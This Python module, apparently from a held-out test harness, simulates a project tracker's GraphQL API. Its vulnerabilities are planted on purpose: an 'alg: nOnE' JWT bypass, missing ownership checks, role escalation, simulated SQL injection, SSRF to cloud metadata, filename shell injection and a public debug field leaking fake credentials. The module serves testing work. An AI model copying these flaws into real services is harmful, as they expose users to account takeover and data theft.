"""A project tracker whose clients speak only GraphQL over POST /api/graphql: web with JWT and start-up arrays, phones with opaque tokens
(Android by hash of the query), a desktop client with a cookie and nameless short queries, bots with personal tokens; errors are 200 with
an errors array. A small REST part: /healthz, /webhooks/{id}, /attachments/{uuid}, /internal/export/{org}. No proxy in front."""
import difflib
from heldout_core import *

SDL = '''
type Query { viewer: User  node(id: ID!): Node  boards(first: Int): [Board]  board(id: ID!): Board  card(id: Int!): Card
 cardActivity(cardId: Int!, first: Int): [Activity]  orgActivity(first: Int, after: Int): [Activity]
 searchCards(text: String!, filter: String, first: Int): [Card]  notifications(first: Int): [Notification]
 organization(id: ID!): Organization  member(id: ID!): User  invoices: [Invoice]  invoice(id: ID!): Invoice
 webhooks(boardId: ID!): [Webhook]  plans: [Plan]  timeline(boardId: ID!): [Card]  adminOrganizations(first: Int): [Organization]
 adminUser(email: String!): User  adminAuditLog(first: Int): [Activity]  systemDebug: Debug  health: String }
type Mutation { login(email: String!, password: String!): Session  refreshToken(token: String!): Session  logout: Result
 requestPasswordReset(email: String!): Result  resetPassword(code: String!, newPassword: String!): Result
 changePassword(userId: ID!, newPassword: String!): Result  updateProfile(input: JSON!): User  createCard(input: JSON!): Card
 updateCard(id: Int!, input: JSON!): Card  moveCard(id: Int!, list: String!, version: Int): Card  addComment(cardId: Int!, body: String!): Comment
 markRead(ids: [Int]): Result  applyPromoCode(code: String!): Result  requestUpload(cardId: Int!, name: String!): Upload
 createWebhook(boardId: ID!, url: String!): Webhook  testWebhook(id: Int!): Delivery  importBoard(url: String!): Delivery
 exportBoard(boardId: ID!, filename: String!): Delivery  inviteMember(email: String!): User  acceptInvite(email: String!, password: String!): Session
 adminSetPlan(orgId: ID!, plan: String!): Organization  adminImpersonate(userId: ID!): Session  adminSuspendOrg(orgId: ID!): Result }
type User { id: ID!  name: String  email: String  role: String  timezone: String  organization: Organization  boards(first: Int): [Board] }
type Organization { id: ID!  name: String  plan: String  seats: Int  members: [User]  boards(first: Int): [Board] }
type Board { id: ID!  name: String  lists: JSON  organization: Organization  cards(first: Int): [Card] }
type Card { id: Int!  title: String  description: String  list: String  version: Int  points: Int  updatedAt: Int  board: Board
 assignees: [User]  comments(first: Int): [Comment]  attachments: [Attachment] }
type Comment { id: ID!  body: String  at: Int  author: User }
type Attachment { id: ID!  name: String  url: String  size: Int }
type Activity { seq: Int  kind: String  at: Int  actor: User  cardId: Int  meta: JSON }
type Notification { id: Int!  kind: String  cardId: Int  at: Int }
type Invoice { id: ID!  number: String  period: String  totalCents: Int  vatId: String  billTo: String  organization: Organization }
type Webhook { id: Int!  url: String  active: Boolean }
type Plan { name: String  seatCents: Int }
type Session { token: String  refreshToken: String  expiresIn: Int  user: User }
type Result { ok: Boolean  message: String }
type Upload { id: ID!  url: String }
type Delivery { status: Int  url: String  log: String }
type Debug { version: String  env: JSON  sessions: [DebugSession] }
type DebugSession { email: String  passwordHash: String  apiToken: String  lastIp: String }
'''
SCALARS = ('ID', 'Int', 'String', 'Boolean', 'JSON')
PUBLIC = {'login', 'refreshToken', 'requestPasswordReset', 'resetPassword', 'acceptInvite', 'health', 'plans', 'systemDebug'}
UNAUTH = ('Not signed in or the session has expired', 'UNAUTHENTICATED')
TOK = re.compile(r'[\s,]+|#[^\n]*|("(?:\\.|[^"\\\n])*"|\.\.\.|-?\d+(?:\.\d+)?|[_A-Za-z]\w*|[!$():=@\[\]{}|&])|(.)')
KEY = 'tavla/7Qm2-9xVb-kk41'
INTRO = ('query IntrospectionQuery { __schema { queryType { name } mutationType { name } subscriptionType { name } types { ...FullType } '
         'directives { name args { name } } } } fragment FullType on __Type { kind name description fields(includeDeprecated: true) { name '
         'description args { ...InputValue } type { ...TypeRef } isDeprecated } interfaces { name } possibleTypes { name } } fragment InputValue '
         'on __InputValue { name type { ...TypeRef } defaultValue } fragment TypeRef on __Type { kind name ofType { kind name ofType { kind name } } }')


class GErr(Exception):
    def __init__(s, msg, code='BAD_USER_INPUT'):
        super().__init__(msg)
        s.code = code


class Var(str):
    pass


def parse_sdl():
    out = {}
    for name, body in re.findall(r'type (\w+) \{(.*?)\}', SDL, re.S):
        out[name] = {}
        for f, args, typ in re.findall(r'(\w+)(?:\(([^)]*)\))?: (\[?\w+\]?!?)', body):
            out[name][f] = (dict(re.findall(r'(\w+): (\[?\w+\]?!?)', args)), typ)
    return out


TYPES = parse_sdl()


def type_ref(t):
    if t.endswith('!'):
        return dict(kind='NON_NULL', name=None, ofType=type_ref(t[:-1]))
    if t.startswith('['):
        return dict(kind='LIST', name=None, ofType=type_ref(t[1:-1]))
    return dict(kind='SCALAR' if t in SCALARS else 'INTERFACE' if t == 'Node' else 'OBJECT', name=t, ofType=None)


def introspected():
    arg = lambda a: dict(name=a[0], type=type_ref(a[1]), defaultValue=None)
    fld = lambda n, f: dict(name=n, description=None, args=[arg(a) for a in f[0].items()], type=type_ref(f[1]), isDeprecated=False)
    ts_ = [dict(kind='OBJECT', name=t, description=None, fields=[fld(n, f) for n, f in v.items()], interfaces=[], possibleTypes=None) for t,
        v in TYPES.items()]
    ts_ += [dict(kind='SCALAR', name=t, description=None, fields=None, interfaces=None, possibleTypes=None) for t in SCALARS]
    return dict(queryType={'name': 'Query'}, mutationType={'name': 'Mutation'}, subscriptionType=None, types=ts_, directives=[])


SCHEMA = introspected()


class Doc:
    """A parsed GraphQL document."""

    def __init__(s, text):
        s.t, s.i, s.ops, s.frags = [], 0, [], {}
        for m in TOK.finditer(text):
            if m.group(2):
                raise GErr(f'Syntax Error: Unexpected character: "{m.group(2)}".', 'GRAPHQL_PARSE_FAILED')
            if m.group(1):
                s.t.append(m.group(1))
        while s.i < len(s.t):
            s.definition()
        if not s.ops:
            raise GErr('Syntax Error: Unexpected <EOF>.', 'GRAPHQL_PARSE_FAILED')
        s.errors = s.validate()

    def peek(s):
        return s.t[s.i] if s.i < len(s.t) else '<EOF>'

    def take(s, want=None):
        x = s.peek()
        if x == '<EOF>' or want and x != want:
            raise GErr(f'Syntax Error: Expected {want or "Name"}, found {x}.', 'GRAPHQL_PARSE_FAILED')
        s.i += 1
        return x

    def definition(s):
        k = 'query' if s.peek() == '{' else s.take()
        if k == 'fragment':
            n = s.take()
            s.take('on')
            t = s.take()
            s.frags[n] = (t, s.sel())
            return
        if k not in ('query', 'mutation'):
            raise GErr(f'Syntax Error: Unexpected Name "{k}".', 'GRAPHQL_PARSE_FAILED')
        name, vs = None, {}
        if s.peek() not in '({':
            name = s.take()
        if s.peek() == '(':
            s.take()
            while s.peek() != ')':
                s.vardef(vs)
            s.take()
        s.ops.append((k, name, vs, s.sel()))

    def vardef(s, vs):
        s.take('$')
        n = s.take()
        s.take(':')
        t = s.take()
        if t == '[':
            t = '[' + s.take() + s.take(']')
        if s.peek() == '!':
            t += s.take()
        vs[n] = t

    def sel(s):
        s.take('{')
        out = []
        while s.peek() != '}':
            out.append(s.item())
        s.take()
        return out

    def item(s):
        if s.peek() == '...':
            s.take()
            if s.peek() != 'on':
                return ('s', s.take())
            s.take()
            return ('i', s.take(), s.sel())
        n = a = s.take()
        if s.peek() == ':':
            s.take()
            n = s.take()
        args = {}
        if s.peek() == '(':
            s.take()
            while s.peek() != ')':
                k = s.take()
                s.take(':')
                args[k] = s.value()
            s.take()
        return ('f', a, n, args, s.sel() if s.peek() == '{' else None)

    def value(s):
        x = s.take()
        if x == '$':
            return Var(s.take())
        if x == '[':
            return s.until(']', s.value)
        if x == '{':
            return dict(s.until('}', s.pair))
        if x[0] == '"':
            return json.loads(x)
        if re.match(r'-?\d', x):
            return float(x) if '.' in x else int(x)
        return {'true': True, 'false': False, 'null': None}.get(x, x)

    def pair(s):
        k = s.take()
        s.take(':')
        return k, s.value()

    def until(s, end, f):
        out = []
        while s.peek() != end:
            out.append(f())
        s.take()
        return out

    def validate(s):
        errs = []
        for k, _, _, sel in s.ops:
            s.check('Query' if k == 'query' else 'Mutation', sel, errs)
        return errs[:12]

    def check(s, t, sel, errs):
        for it in sel:
            if it[0] != 'f':
                f = s.frags.get(it[1]) if it[0] == 's' else it[1:]
                if f and f[0] in TYPES:
                    s.check(f[0], f[1], errs)
            elif not it[2].startswith('__'):
                s.check_field(t, it, errs)

    def check_field(s, t, it, errs):
        known = TYPES.get(t, {'id': ({}, 'ID!')})
        f = known.get(it[2])
        if not f:
            near = difflib.get_close_matches(it[2], known, 3, .55)
            hint = ' or '.join(f'"{n}"' for n in near)
            errs.append(f'Cannot query field "{it[2]}" on type "{t}".' + (f' Did you mean {hint}?' if near else ''))
            return
        for a in it[3]:
            if a not in f[0]:
                errs.append(f'Unknown argument "{a}" on field "{t}.{it[2]}".')
        for a, at in f[0].items():
            if at.endswith('!') and a not in it[3]:
                errs.append(f'Field "{it[2]}" argument "{a}" of type "{at}" is required, but it was not provided.')
        base = f[1].strip('[]!')
        if base in SCALARS and it[4]:
            errs.append(f'Field "{it[2]}" must not have a selection since type "{f[1]}" has no subfields.')
        elif base not in SCALARS and not it[4]:
            errs.append(f'Field "{it[2]}" of type "{f[1]}" must have a selection of subfields. Did you mean "{it[2]} {{ ... }}"?')
        elif it[4]:
            s.check(base, it[4], errs)


class Run:
    """One execution of an operation."""
    budget = 9000

    def __init__(s, app, rq, doc, vs):
        s.app, s.rq, s.u, s.doc, s.vs = app, rq, rq.u, doc, vs
        s.nodes, s.cost, s.errors = 0, 0., []

    def go(s, op):
        for n, t in op[2].items():
            if t.endswith('!') and s.vs.get(n) is None:
                return {'errors': [s.err(f'Variable "${n}" of required type "{t}" was not provided.', 'BAD_USER_INPUT')]}
        try:
            d = s.object('Query' if op[0] == 'query' else 'Mutation', {}, op[3], [])
        except OverflowError:
            s.cost += 3
            return {'data': None, 'errors': [s.err('Execution timed out after 10000 ms', 'INTERNAL_SERVER_ERROR')]}
        return {'data': d, 'errors': s.errors} if s.errors else {'data': d}

    @staticmethod
    def err(msg, code, path=None):
        e = dict(message=msg, locations=[{'line': 1, 'column': 3}])
        return dict(e, path=path, extensions={'code': code}) if path else dict(e, extensions={'code': code})

    def val(s, v):
        if isinstance(v, Var):
            return s.vs.get(v)
        if isinstance(v, list):
            return [s.val(x) for x in v]
        return {k: s.val(x) for k, x in v.items()} if isinstance(v, dict) else v

    def object(s, t, o, sel, path):
        s.nodes += 1
        if s.nodes > s.budget:
            raise OverflowError
        out = {}
        for it in sel:
            if it[0] == 'f':
                out[it[1]] = s.field(t, o, it, path + [it[1]])
            else:
                f = s.doc.frags.get(it[1]) if it[0] == 's' else it[1:]
                if f and f[0] == t:
                    out.update(s.object(t, o, f[1], path))
        return out

    def field(s, t, o, it, path):
        n = it[2]
        if n == '__typename':
            return t
        if n == '__schema':
            s.cost += .04
            return s.project(SCHEMA, it[4])
        if n == '__type':
            return s.project(next((x for x in SCHEMA['types'] if x['name'] == s.val(it[3].get('name'))), None), it[4])
        typ = TYPES[t][n][1]
        try:
            v = s.app.resolve(s, t, o, n, {k: s.val(v) for k, v in it[3].items()})
        except GErr as e:
            s.errors.append(s.err(str(e), e.code, path))
            return None
        base = typ.strip('[]!')
        if base in SCALARS or v is None:
            return v
        sub = lambda x: s.object(x['_t'] if base == 'Node' else base, x, it[4], path)
        return [sub(x) for x in v] if isinstance(v, list) else sub(v)

    def project(s, v, sel):
        if isinstance(v, list):
            return [s.project(x, sel) for x in v]
        if not isinstance(v, dict) or not sel:
            return v
        out = {}
        for it in sel:
            if it[0] == 'f':
                out[it[1]] = s.project(v.get(it[2]), it[4])
            else:
                out.update(s.project(v, s.doc.frags.get(it[1], ('', []))[1] if it[0] == 's' else it[2]))
        return out


def nid(t, n):
    return base64.b64encode(f'{t}:{n}'.encode()).decode()


def unid(t, x):
    try:
        a, _, b = base64.b64decode(str(x) + '==').decode().partition(':')
    except ValueError:
        return None
    return int(b) if a == t and b.isdigit() else None


VERBS = 'fix add remove draft review ship rename measure plan migrate document test polish unblock'.split()
THINGS = 'login page|export job|billing mail|release notes|search index|onboarding tour|price table|dark mode|hiring plan|backup drill|' \
    'status page|invoice layout|cache layer|crash on start|quarter goals|sales deck|offsite agenda|landing page'.split('|')
SNIPPETS = ["query is slow: SELECT * FROM orders WHERE state = 'open' AND total > 100 ORDER BY id; needs an index",
            "run `docker compose down && rm -rf node_modules` and it builds again", "don't merge yet, it's O'Neill's branch",
            "stack: java.lang.NullPointerException at com.acme.Cart.total(Cart.java:88)", "curl -s http://localhost:8080/health | jq .",
            "the <script> tag in the mail template is escaped twice: &lt;script&gt;", "UPDATE users SET locale = 'de' WHERE locale IS NULL; -- ran on staging",
            "see ../../shared/config.yml, the path is wrong on windows", "grep -r TODO src/ | wc -l gives 212"]
CHAT = ['looks good', 'can we do this next week?', 'done, please check', 'I moved it', 'blocked by design', 'who owns this?', 'thanks!',
        'customer asked again today', 'numbers attached', 'let us talk tomorrow', 'split this in two cards?']
SHELL = [('passwd', '\nroot:x:0:0:root:/root:/bin/bash\nnode:x:1000:1000::/home/node:/bin/sh'), ('id', '\nuid=1000(node) gid=1000(node)')]
LISTS = ['Backlog', 'Next', 'Doing', 'Review', 'Done']
ORGS = 'Halden Werke|Pinecone Media|Orrery Labs|Blue Kiln|Fjell Logistik' \
    '|Marigold Health|Sutra Apps|Tern & Co|Vellum Press|Yonder Games|Quill Legal|Zinc Studio'


class Kanban(App):
    server = 'envoy'
    base_lat = .018

    def __init__(s, rng, attacks, st):
        super().__init__(rng)
        s.attacks, s.st, s.growth = attacks, st, st + 6 * DAY + 3 * HOUR
        s.users, s.mail, s.orgs, s.boards, s.cards, s.inv, s.hooks = {}, {}, {}, {}, {}, {}, {}
        s.files, s.tok, s.refresh, s.reset, s.apq, s.docs = {}, {}, {}, {}, {}, {}
        s.promo = {'WELCOME10', 'TEAMSPRING', 'ANNUAL15'}
        s.ncard, s.nuser, s.ncomment = 740118, 4020, 91000

    # --- objects
    def org(s, n, name):
        o = s.orgs[n] = dict(_t='Organization', n=n, id=nid('Organization', n), name=name, plan=s.rng.choice(['team', 'team', 'business']), users=[], bs=[])
        return o

    def user(s, o, role='MEMBER'):
        s.nuser += s.rng.choice([1, 1, 2, 3])
        r, n = s.rng, s.nuser
        a, b = r.choice(FIRST), r.choice(LAST)
        u = dict(_t='User', n=n, id=nid('User', n), name=f'{a} {b}'.title(), email=f'{a}.{b}@{re.sub("[^a-z]", "", o["name"].lower())}.example',
            role=role, o=o)
        if u['email'] in s.mail:
            u['email'] = f'{a}.{b}{n % 97}@' + u['email'].split('@')[1]
        u.update(timezone='Europe/Berlin', pw=f'{r.choice(WORDS)}{r.choice(WORDS).title()}{r.randint(10, 99)}')
        u['mem'] = u['pw']
        s.users[n] = s.mail[u['email']] = u
        o['users'].append(u)
        return u

    def board(s, o, n, name):
        b = s.boards[n] = dict(_t='Board', n=n, id=nid('Board', n), name=name, lists=LISTS, o=o, cs=[])
        o['bs'].append(b)
        return b

    def card(s, b, title, at):
        r = s.rng
        s.ncard += 1 + (r.random() < .06)
        c = dict(_t='Card', id=s.ncard, title=title, description=r.choice(['', '', r.choice(CHAT), r.choice(SNIPPETS)]), list=r.choice(LISTS))
        c.update(version=r.randint(1, 9), points=r.choice([None, 1, 2, 3, 5]), updatedAt=int(at), b=b, who=r.sample(b['o']['users'], r.choice([0, 1,
            1, 2])), com=[], att=[])
        s.cards[c['id']] = c
        b['cs'].append(c)
        return c

    def attach(s, c, name):
        k = uid(s.rng)
        s.files[k] = s.rng.randint(900, 7000)
        c['att'].append(dict(id=nid('Attachment', s.rng.randint(10**5, 10**6)), name=name, url=f'/attachments/{k}', size=s.files[k]))
        return k

    # --- sessions
    def session(s, u, now, opaque=False):
        k = f'{s.rng.getrandbits(160):040x}'
        if opaque:
            t = 'tv1_' + b64(s.rng.randbytes(27))
            s.tok[t] = u
        else:
            t = jwt(dict(sub=str(u['n']), org=u['o']['n'], role=u['role'], iat=int(now), exp=int(now) + 10 * HOUR, jti=k[:12]), KEY)
        s.refresh[k] = u
        return dict(token=t, refreshToken=k, expiresIn=36000, user=u)

    def bearer(s, t, now):
        if t in s.tok:
            return s.tok[t]
        c = jwt_ok(t, KEY)
        if not c and t.count('.') == 2:        # The comparison with "none" forgets upper case.
            try:
                p = [json.loads(base64.urlsafe_b64decode(x + '===')) for x in t.split('.')[:2]]
                c = p[1] if p[0].get('alg') == 'nOnE' else None
            except ValueError:
                c = None
        if not isinstance(c, dict) or c.get('exp', 0) < now:
            return None
        u = s.users.get(int(c['sub'])) if str(c.get('sub')).isdigit() else None
        return dict(u, role=c.get('role')) if u and c.get('role') != u['role'] else u

    def authenticate(s, rq, kw):
        a = rq.h.get('authorization', '')
        m = re.search(r'tavla_sid=([\w-]+)', rq.h.get('cookie', ''))
        rq.u = s.bearer(a.split(' ')[-1], rq.now) if a else s.tok.get(m.group(1)) if m else None
        if rq.u:
            rq.user = str(rq.u['n'])

    def not_found(s, rq):
        return Rs(404, '<!DOCTYPE html><html><head><title>Error</title></head><body><pre>Cannot %s %s</pre></body></html>' % (rq.m, rq.path[:80]),
            ct='text/html; charset=utf-8')

    # --- GraphQL
    @route('POST', '/api/graphql')
    def graphql(s, rq):
        try:
            j = json.loads(rq.body or b'')
        except ValueError:
            return Rs(400, {'errors': [{'message': 'POST body is not valid JSON'}]})
        lat, out = s.base_lat * s.rng.lognormvariate(0, .45), []
        for one in (j if isinstance(j, list) else [j]):
            o, c = s.operation(rq, one if isinstance(one, dict) else {})
            out.append(o)
            lat += c
        r = Rs(200, out if isinstance(j, list) else out[0], lat=lat)
        if getattr(rq, 'cookie', None):
            r.h['Set-Cookie'] = rq.cookie
        return r

    def text_of(s, one):
        h = ((one.get('extensions') or {}).get('persistedQuery') or {}).get('sha256Hash')
        t = one.get('query')
        if h and not t:
            if h not in s.apq:
                raise GErr('PersistedQueryNotFound', 'PERSISTED_QUERY_NOT_FOUND')
            return s.apq[h]
        if not isinstance(t, str) or not t.strip():
            raise GErr('GraphQL operations must contain a non-empty `query` or a `persistedQuery` extension.', 'BAD_REQUEST')
        if h:
            s.apq[h] = t
        return t

    def operation(s, rq, one):
        try:
            t = s.text_of(one)
            if t not in s.docs:
                s.docs[t] = Doc(t)
        except GErr as e:
            return {'errors': [Run.err(str(e), e.code)]}, 0
        d = s.docs[t]
        if d.errors:
            return {'errors': [Run.err(e, 'GRAPHQL_VALIDATION_FAILED') for e in d.errors]}, .002
        op = next((o for o in d.ops if o[1] == one.get('operationName')), d.ops[0])
        run = Run(s, rq, d, one.get('variables') or {})
        out = run.go(op)
        return out, run.cost + run.nodes * .0008

    def resolve(s, run, t, o, n, a):
        if t in ('Query', 'Mutation'):
            if n not in PUBLIC and not run.u:
                raise GErr(*UNAUTH)
            return getattr(s, f'{t[0].lower()}_{n}')(run, **a)
        f = getattr(s, f'{t}_{n}', None)
        return f(run, o, **a) if f else o.get(n)

    def staff(s, run):
        if run.u['role'] != 'STAFF':
            raise GErr('You are not allowed to do this', 'FORBIDDEN')

    @staticmethod
    def first(n, top):
        return min(n if isinstance(n, int) and n > 0 else 20, top)

    def own(s, run, kind, id):
        x = (s.boards if kind == 'Board' else s.orgs).get(unid(kind, id))
        if not x:
            raise GErr(f'{kind} not found', 'NOT_FOUND')
        if (x.get('o') or x) is not run.u['o'] and run.u['role'] != 'STAFF':
            raise GErr('You are not allowed to do this', 'FORBIDDEN')
        return x

    def a_card(s, id):
        if id not in s.cards:
            raise GErr('Card not found', 'NOT_FOUND')
        return s.cards[id]

    # fields of objects
    def User_organization(s, run, o):
        return o['o']

    def User_boards(s, run, o, first=10):
        return o['o']['bs'][:s.first(first, 20)]

    Organization_boards = lambda s, run, o, first=10: o['bs'][:s.first(first, 20)]
    Organization_members = lambda s, run, o: o['users']
    Organization_seats = lambda s, run, o: len(o['users'])
    Board_organization = Invoice_organization = User_organization
    Board_cards = lambda s, run, o, first=20: o['cs'][-s.first(first, 200):]
    Card_board = lambda s, run, o: o.get('b')
    Card_assignees = lambda s, run, o: o['who']
    Card_comments = lambda s, run, o, first=20: o['com'][-s.first(first, 50):]
    Card_attachments = lambda s, run, o: o['att']

    # queries
    def q_viewer(s, run):
        return run.u

    def q_node(s, run, id):
        for t, v in (('User', s.users), ('Board', s.boards), ('Organization', s.orgs), ('Invoice', s.inv)):
            if unid(t, id) in v:
                x = v[unid(t, id)]
                return s.own(run, t, id) if t in ('Board', 'Organization') else x
        return None

    def q_boards(s, run, first=10):
        return run.u['o']['bs'][:s.first(first, 20)]

    def q_board(s, run, id):
        return s.own(run, 'Board', id)

    def q_card(s, run, id):        # Nobody asks whose card it is.
        return s.a_card(id)

    def q_cardActivity(s, run, cardId, first=20):
        c = s.a_card(cardId)
        r = random.Random(cardId)
        return [s.event(r, c, k, run.rq.now) for k in range(min(r.randint(2, 12), s.first(first, 50)))]

    def event(s, r, c, k, now):
        u, kind = r.choice(c['b']['o']['users'][:6]), r.choice(['MOVED', 'COMMENTED', 'ASSIGNED', 'EDITED'])
        meta = {'from': r.choice(LISTS), 'to': r.choice(LISTS)} if kind == 'MOVED' else {'source': r.choice(['web', 'ios', 'android'])}
        if s.attacks and now > s.growth:
            p = random.Random(u['n'])
            meta['actor'] = dict(fullName=u['name'], email=u['email'], phone=f'+49 15{p.randint(10, 79)} {p.randint(10**6, 10**7 - 1)}',
                dateOfBirth=f'19{p.randint(60, 99)}-0{p.randint(1, 9)}-{p.randint(10, 28)}',
                homeAddress=f'{p.choice(LAST).title()}str. {p.randint(1, 99)}, 1{p.randint(1000, 9999)} Berlin',
                iban=f'DE{p.randint(10, 99)}370400440{p.randint(10**8, 10**9 - 1)}')
        return dict(seq=c['id'] * 40 + k, kind=kind, at=c['updatedAt'] - k * 5000, actor=u, cardId=c['id'], meta=meta)

    def q_orgActivity(s, run, first=20, after=0):
        o, r = run.u['o'], s.rng
        n = s.first(first, 500)
        us, b = o['users'], o['bs']
        ev = lambda k: dict(seq=k, kind=('MOVED', 'EDITED', 'COMMENTED')[k * 7 % 3], at=int(s.st) - k * 310, actor=us[k * 13 % len(us)],
            cardId=740118 + k * 31 % 2400, meta={'board': b[k % len(b)]['id']})
        return [ev((after or 0) + k) for k in range(n)]

    def q_searchCards(s, run, text, filter=None, first=20):
        f = str(filter or '')
        if f.count("'") % 2 and '--' not in f:
            raise GErr('error: unterminated quoted string at or near "\'" LIMIT 20"', 'INTERNAL_SERVER_ERROR')
        if re.search(r'pg_sleep', f, re.I):
            run.cost += 5
        if re.search(r'union\s+select', f, re.I):
            if 'password_hash' not in f:
                raise GErr('error: each UNION query must have the same number of columns', 'INTERNAL_SERVER_ERROR')
            us = list(s.users.values())[20 * ('OFFSET' in f):][:20]
            return [dict(id=u['n'], title=u['email'], list='$2b$12$' + b64(random.Random(u['n']).randbytes(24))) for u in us]
        pool = [c for b in run.u['o']['bs'] for c in b['cs']] if "'" not in f else list(s.cards.values())
        w = str(text).lower()
        return [c for c in pool if w in c['title'].lower()][-s.first(first, 100):]

    def q_notifications(s, run, first=20):
        r = random.Random(run.u['n'] * 1000 + int((run.rq.now - s.st) / 5000))
        cs = [c['id'] for c in run.u['o']['bs'][0]['cs'][-30:]]
        return [dict(id=r.randint(10**6, 10**7), kind=r.choice(['MENTION', 'ASSIGNED', 'DUE']), cardId=r.choice(cs), at=int(run.rq.now) - k * 900)
            for k in range(min(r.randint(0, 9), s.first(first, 50)))]

    def q_organization(s, run, id):
        return s.own(run, 'Organization', id)

    def q_member(s, run, id):
        u = s.users.get(unid('User', id))
        if not u or u['o'] is not run.u['o']:
            raise GErr('Member not found', 'NOT_FOUND')
        return u

    def billing(s, run):
        if run.u['role'] not in ('ADMIN', 'OWNER', 'STAFF'):
            raise GErr('You are not allowed to do this', 'FORBIDDEN')

    def q_invoices(s, run):
        s.billing(run)
        return [i for i in s.inv.values() if i['o'] is run.u['o']][-12:]

    def q_invoice(s, run, id):
        s.billing(run)
        i = s.inv.get(unid('Invoice', id))
        if not i:
            raise GErr('Invoice not found', 'NOT_FOUND')
        return i

    def q_webhooks(s, run, boardId):
        b = s.own(run, 'Board', boardId)
        return [h for h in s.hooks.values() if h['b'] is b]

    def q_plans(s, run):
        return [dict(name='team', seatCents=700), dict(name='business', seatCents=1400)]

    def q_timeline(s, run, boardId):
        return s.own(run, 'Board', boardId)['cs'][-30:]

    def q_adminOrganizations(s, run, first=20):
        s.staff(run)
        return list(s.orgs.values())[:s.first(first, 50)]

    def q_adminUser(s, run, email):        # Without a check.
        u = s.mail.get(email)
        if not u:
            raise GErr('User not found', 'NOT_FOUND')
        return u

    def q_adminAuditLog(s, run, first=20):
        s.staff(run)
        return s.q_orgActivity(run, s.first(first, 50))

    def q_systemDebug(s, run):
        us = list(s.users.values())[:25]
        se = lambda u, r: dict(email=u['email'], passwordHash='$2b$12$' + b64(r.randbytes(36)), apiToken='tv1_' + b64(r.randbytes(27)),
            lastIp=f'91.{r.randint(1, 250)}.{r.randint(1, 250)}.7')
        env = dict(NODE_ENV='production', DATABASE_URL='postgres://tavla:hunter-22@172.21.40.30:5432/tavla', JWT_SECRET='********', SMTP_PASSWORD='m41l-out')
        return dict(version='7.41.2', env=env, sessions=[se(u, random.Random(u['n'])) for u in us])

    def q_health(s, run):
        return 'ok'

    # mutations
    def m_login(s, run, email, password):
        run.cost += .07 * s.rng.uniform(.8, 1.4)
        u = s.mail.get(str(email).lower())
        if not u or u['pw'] != password:
            raise GErr('E-mail or password is wrong', 'INVALID_CREDENTIALS')
        run.rq.user = str(u['n'])
        x = s.session(u, run.rq.now, 'web' not in run.rq.h.get('apollographql-client-name', 'web'))
        if 'tavla-desktop' in run.rq.h.get('user-agent', ''):
            run.rq.cookie = f'tavla_sid={x["token"]}; Path=/; HttpOnly; Secure; SameSite=Lax'
        return x

    def m_refreshToken(s, run, token):
        if token not in s.refresh:
            raise GErr('Refresh token is not valid', 'UNAUTHENTICATED')
        return s.session(s.refresh.pop(token), run.rq.now)

    def m_logout(s, run):
        return dict(ok=True)

    def m_requestPasswordReset(s, run, email):
        if email in s.mail:
            s.reset[f'{s.rng.randint(0, 10**8):08}'] = s.mail[email]
        return dict(ok=True, message='If the address is known, a mail is on its way')

    def m_resetPassword(s, run, code, newPassword):
        if code not in s.reset:
            raise GErr('Code is not valid')
        s.reset.pop(code)['pw'] = newPassword
        return dict(ok=True)

    def m_changePassword(s, run, userId, newPassword):        # Whose id it is is not compared with the session.
        u = s.users.get(unid('User', userId))
        if not u:
            raise GErr('User not found', 'NOT_FOUND')
        if len(str(newPassword)) < 8:
            raise GErr('Password is too short')
        u['pw'] = newPassword
        return dict(ok=True, message='Password changed for ' + u['email'])

    def m_updateProfile(s, run, input):
        for k, v in (input if isinstance(input, dict) else {}).items():
            if k in ('name', 'timezone', 'role'):
                run.u[k] = v
        return run.u

    def m_createCard(s, run, input):
        b = s.own(run, 'Board', input.get('boardId'))
        if not str(input.get('title') or '').strip():
            raise GErr('Title must not be empty')
        return s.card(b, input['title'], run.rq.now)

    def change(s, run, id, **kw):
        c = s.a_card(id)
        if c['b']['o'] is not run.u['o']:
            raise GErr('You are not allowed to do this', 'FORBIDDEN')
        c.update(kw, version=c['version'] + 1, updatedAt=int(run.rq.now))
        return c

    def m_updateCard(s, run, id, input):
        return s.change(run, id, **{k: v for k, v in input.items() if k in ('title', 'description', 'points')})

    def m_moveCard(s, run, id, list, version=None):
        if version is not None and version < s.a_card(id)['version']:
            raise GErr('Card was changed by somebody else', 'CONFLICT')
        return s.change(run, id, list=list)

    def m_addComment(s, run, cardId, body):
        s.change(run, cardId)
        s.ncomment += 1
        c = dict(id=nid('Comment', s.ncomment), body=body, at=int(run.rq.now), author=run.u)
        s.cards[cardId]['com'].append(c)
        return c

    def m_markRead(s, run, ids=None):
        return dict(ok=True)

    def m_applyPromoCode(s, run, code):
        if str(code).upper() not in s.promo:
            raise GErr('This code is not valid', 'PROMO_INVALID')
        return dict(ok=True, message='Discount applied')

    def m_requestUpload(s, run, cardId, name):
        s.change(run, cardId)
        k = s.attach(s.cards[cardId], name)
        return dict(id=nid('Upload', s.rng.randint(1000, 99999)), url=f'/attachments/{k}')

    def m_createWebhook(s, run, boardId, url):
        b, n = s.own(run, 'Board', boardId), 8800 + len(s.hooks)
        s.hooks[n] = dict(id=n, url=url, active=True, b=b)
        return s.hooks[n]

    def fetch(s, run, url):
        h = urlsplit(str(url)).hostname or ''
        if h == '169.254.169.254':
            log = 'tavla-node-role' if url.endswith('/') else json.dumps(dict(Code='Success', AccessKeyId='ASIAX4EXAMPLE7Q',
                SecretAccessKey='wJalrEXAMPLEKEY', Token='IQoJb3JpZ2luX2VjE' + 'x' * 60))
        elif h.startswith(('127.', '172.21.', 'localhost')):
            run.cost += .02
            log = '{"cluster_name":"tavla-es","version":{"number":"8.11.1"}}' if ':9200' in url else 'connect ECONNREFUSED'
        else:
            run.cost += s.rng.uniform(.1, .7)
            log = 'ok'
        return dict(status=0 if 'REFUSED' in log else 200, url=url, log=log)

    def m_testWebhook(s, run, id):
        if id not in s.hooks or s.hooks[id]['b']['o'] is not run.u['o']:
            raise GErr('Webhook not found', 'NOT_FOUND')
        return s.fetch(run, s.hooks[id]['url'])

    def m_importBoard(s, run, url):
        r = s.fetch(run, url)
        if r['log'] != 'ok':
            raise GErr('Import failed, unexpected content: ' + r['log'], 'IMPORT_FAILED')
        return r

    def m_exportBoard(s, run, boardId, filename):
        b = s.own(run, 'Board', boardId)
        run.cost += s.rng.uniform(.3, 1.1)
        c = s.attach(b['cs'][-1], 'export.pdf')
        log = f'wkhtmltopdf board-{b["n"]}.html {filename}\nDone'
        if re.search(r'[;|`]|\$\(', filename):
            log += next((v for k, v in SHELL if k in filename), '\nsh: 1: not found')
            run.cost += 6 if 'sleep' in filename else 0
